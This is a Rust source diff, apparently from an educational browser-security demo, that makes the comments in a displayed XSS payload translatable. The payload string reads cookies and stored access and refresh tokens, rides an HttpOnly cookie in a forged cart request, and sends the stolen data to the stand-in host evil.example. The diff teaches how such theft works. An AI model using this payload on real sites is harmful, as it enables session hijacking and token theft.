@@ -14,22 +14,36 @@ struct Loot<'a> {
 /// `connect-src 'self'` forbids.
 pub const EXFILTRATION_URL: &str = "https://evil.example/steal";
 
-/// What the injected script runs, shown on the card. The experiment makes exactly these
-/// reads and requests through the same browser APIs (the page's strict CSP allows no `eval`,
-/// so the payload cannot be injected as text); the attacker's part runs with no cookies.
-pub const XSS_PAYLOAD: &str = r#"// 1. read what page scripts can read
+/// What the injected script runs, shown on the card, its comments in the page's language
+/// (`{read}`, `{ride}`, `{send}`, `{elsewhere}`). The experiment makes exactly these reads and
+/// requests through the same browser APIs (the page's strict CSP allows no `eval`, so the
+/// payload cannot be injected as text); the attacker's part runs with no cookies.
+const XSS_PAYLOAD: &str = r#"// 1. {read}
 const loot = { cookie: document.cookie,
   access: localStorage.getItem('authlens.access_token'),
   refresh: localStorage.getItem('authlens.refresh_token') };
-// 2. ride the HttpOnly cookie: a request from the page carries it
+// 2. {ride}
 fetch('/api/session/cart', { method: 'POST',
   headers: { 'Content-Type': 'application/json' },
   body: '{"item":"added by the XSS payload"}' });
-// 3. send the loot away
+// 3. {send}
 fetch('https://evil.example/steal',
   { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
-// 4. on the attacker's machine, with no cookies:
+// 4. {elsewhere}
 //    POST /api/jwt/refresh {"refresh_token": loot.refresh}"#;
+
+/// The payload as the card shows it, commented in `texts`' language.
+pub(super) fn xss_payload(texts: &ExperimentTexts) -> String {
+    fill_named(
+        XSS_PAYLOAD,
+        &[
+            ("read", texts.e3_comment_read.to_owned()),
+            ("ride", texts.e3_comment_ride.to_owned()),
+            ("send", texts.e3_comment_send.to_owned()),
+            ("elsewhere", texts.e3_comment_elsewhere.to_owned()),
+        ],
+    )
+}
 
 /// The item the payload adds to the victim's cart with the cookie it cannot read.
 const PAYLOAD_CART_ITEM: &str = "added by the XSS payload";
